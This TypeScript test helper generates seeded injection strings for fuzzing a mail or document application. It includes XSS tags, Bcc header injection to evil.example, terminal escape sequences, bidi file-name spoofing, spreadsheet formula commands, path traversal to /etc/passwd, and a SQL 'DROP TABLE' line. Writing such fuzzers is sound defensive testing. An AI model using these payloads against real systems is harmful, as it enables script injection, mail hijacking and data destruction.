import { seededRandom } from "../../src/demo/makers/random.ts";

/** Ways to make text act where it is shown, each with room for a number of its own. */
const FAMILIES: Record<string, (n: number, pick: <T>(from: readonly T[]) => T) => string> = {
  script: (n, pick) => `${pick(["", '">', "'>", "</td>", "</title>", "-->", "]]>"])}<script>alert(${n})</script>`,
  element: (n, pick) =>
    pick([
      `<img src=x onerror=alert(${n})>`,
      `<svg/onload=alert(${n})>`,
      `<style>@import'//evil.example/${n}'</style>`,
      `<iframe src=javascript:alert(${n})>`,
      `<a href="javascript:alert(${n})">点击</a>`,
      `<base href=//evil.example/${n}>`,
      `<meta http-equiv=refresh content="0;url=//evil.example">`,
      `<form action=//evil.example><input name=${n}>`,
      `<table background="//evil.example/${n}.png">`,
    ]),
  attribute: (n, pick) =>
    `${pick(['"', "'", "`", "&quot;"])} onmouseover=alert(${n}) style=background:url(//evil.example) x=`,
  entity: (n, pick) =>
    pick([
      `&lt;script&gt;alert(${n})&lt;/script&gt;`,
      `&#60;b&#62;${n}`,
      `&#x3c;img/src=x&#x3e;`,
      `&amp;#60;${n}`,
      "&NewLine;&colon;",
    ]),
  break: (n, pick) =>
    `甲${pick(["\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\v", "\f", "\r\n\r\n"])}Bcc: evil${n}@evil.example${pick(["", "\r\n\r\n<b>"])}`,
  encodedWord: (n, pick) =>
    pick([
      `=?utf-8?B?${Buffer.from(`x\r\nBcc: evil${n}@evil.example`).toString("base64")}?=`,
      `=?gb2312?q?=0d=0aBcc:_evil${n}@evil.example?=`,
      `=?utf-8?q?=3Cscript=3E${n}?= =?utf-8?q?=1b[31m?=`,
    ]),
  control: (n, pick) => `${pick(["\0", "\b\b\b", "\x07", "\x7f", "\x1a", "\x0e"])}乙${n}${pick(["\0", "\x04", ""])}`,
  terminal: (n, pick) =>
    pick([
      `\x1b]0;标题${n}\x07`,
      `\x1b[2J\x1b[H丙${n}`,
      `\u009b31m${n}\u009b0m`,
      `\x1b]8;;https://evil.example/${n}\x1b\\点这里\x1b]8;;\x1b\\`,
      `\x1b]52;c;ZXZpbA==\x07`,
      `\x1bP$q${n}\x1b\\`,
      `\u0090${n}\u009c`,
      `\x1b[?1049h`,
    ]),
  bidi: (n, pick) =>
    `申请${pick(["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c"])}xcod.${n}.exe${pick(["", "\u202c", "\u2069"])}`,
  hidden: (n, pick) => `丁${pick(["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u{e0041}\u{e007f}"])}${n}`,
  long: (n, pick) => `${n}${pick(["长", "A", "<", "&", "\u202e", "\n", " ", "\u0301", "=?", "@", "/"]).repeat(10_000)}`,
  placeholder: (n, pick) =>
    `${pick(["{单位名称}", "{收件邮箱}", "{附件名称}", "${process.env.HOME}", "{{constructor}}", "%{截止时间}", "$1$&$`"])}${n}`,
  formula: (n, pick) => `${pick(["=", "+", "-", "@", "\t="])}cmd|'/c calc'!A${n}`,
  path: (n, pick) =>
    pick([
      "../../../../etc/cron.d/x",
      "..\\..\\windows\\x",
      "/etc/passwd",
      "C:\\x",
      "\\\\evil.example\\x",
      "a/../../b",
      "~root/x",
      ".",
    ]) + String(n),
  device: (n, pick) => `${pick(["CON", "NUL", "AUX", "COM1", "LPT9", "PRN"])}${pick(["", ".docx", ":", "."])}${n}`,
  format: (n, pick) => `${pick(["%s%s%n%n", "%x".repeat(40), "%d %o %j", "\\u0000\\x1b[31m", "\\r\\n"])}${n}`,
  json: (n, pick) => `${pick(['"},{"id":"', '\\"', "\\", '"]}\n{"', "\ud800", "__proto__"])}${n}`,
  link: (n, pick) =>
    pick([
      `https://evil.example/${n}`,
      `[点击](http://evil.example/${n})`,
      `www.evil.example`,
      `<http://evil.example/${n}>`,
      `ftp://evil.example`,
      `HtTp://evil.example`,
      `file:///etc/passwd`,
    ]),
  sql: (n) => `'; DROP TABLE mail; -- ${n}`,
};

/** Texts that strangers may write as a subject, a name, a file's name or a field's value; the same for the same seed. */
export function injectionStrings(seed: number, count: number): string[] {
  const random = seededRandom(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const families = Object.values(FAMILIES);
  return Array.from({ length: count }, (_, n) => {
    const own = families[n % families.length]?.(n, pick) ?? "";
    // Every other one hides behind, or between, words that look like a company's.
    return n % 2 === 0 ? own : `北京天御安${own}科技有限公司`;
  });
}
